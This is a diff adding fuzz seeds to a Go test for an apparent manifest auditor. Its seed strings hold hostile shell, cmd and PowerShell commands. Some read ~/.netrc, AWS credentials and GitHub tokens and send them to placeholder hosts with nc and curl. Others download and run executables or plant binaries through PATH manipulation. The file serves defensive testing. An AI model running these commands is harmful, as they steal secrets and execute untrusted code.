@@ -304,6 +304,8 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", `f() { g >&2; h; }; g() { cat ~/.netrc; }; h() { f; gh auth token; }; f | nc h 1; read -a A B < ~/.aws/credentials; mapfile < $T; gh auth token >t; ln -sf t u; mv -t d/ u; curl -d "$(f)${A[0]}$B$MAPFILE" -F x=@d/u h://e.x/`},
 	{"cmd", "/c", `curl -o a.exe h://x & copy /Y /-Y a.exe C:\t\ & move a.exe b & ren a.exe & ren C:\a.exe c\d & rename a.exe /B & C:\t\a.exe & b`},
 	{"pwsh", "-Command", "iwr h://x -OutFile a; Move-Item -Path a -Destination; Copy-Item a -Destination:c/; Rename-Item -LiteralPath a -NewName: ; rni a b; mi a; ./c/a; ./b"},
+	{"sh", "-c", `curl -o /usr/local/bin/t h://x; D=/x; PATH=$D::$U:/y:$PATH; export PATH=; PATH=./b t; env PATH=a::b -u PATH t; mv t /z; cd /z && curl -O h://x/u && u; curl h://x | tar x -C ~/bin; tar; z`},
+	{"cmd", "/c", `curl -o %USERPROFILE%\b\T.EXE h://x & set PATH=;%USERPROFILE%\B;%PATH%;; & t & t.exe & T.cmd & set path & tool.`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
